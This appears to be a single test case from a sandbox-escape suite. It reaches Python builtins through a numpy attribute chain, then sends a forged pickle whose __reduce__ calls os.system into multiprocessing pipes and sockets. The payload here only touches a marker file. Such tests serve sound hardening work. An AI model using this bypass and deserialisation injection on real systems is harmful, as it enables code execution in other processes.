# attempts: find the result pipe (gc Connection objects, raw pipe/socket fds) and write a pickle whose __reduce__ runs os.system, framed like multiprocessing
# effect: exec
# needs: worker
# step: poison the channel
B = np.random.bit_generator.re.enum.bltns
B.exec('''
import gc, os, pickle, stat, struct
class Evil:
    def __reduce__(self):
        return (os.system, ('touch @@MARKER_DIR@@/forged_pickle_ran',))
payload = pickle.dumps(Evil())
sent = 0
for o in gc.get_objects():
    if type(o).__name__ == 'Connection' and hasattr(o, 'send_bytes'):
        try:
            o.send_bytes(payload)
            sent += 1
        except Exception:
            pass
for fd in range(3, 256):
    try:
        mode = os.fstat(fd).st_mode
        if stat.S_ISFIFO(mode) or stat.S_ISSOCK(mode):
            os.write(fd, struct.pack('!i', len(payload)) + payload)
            sent += 1
    except Exception:
        pass
print('sent', sent)
''', {})
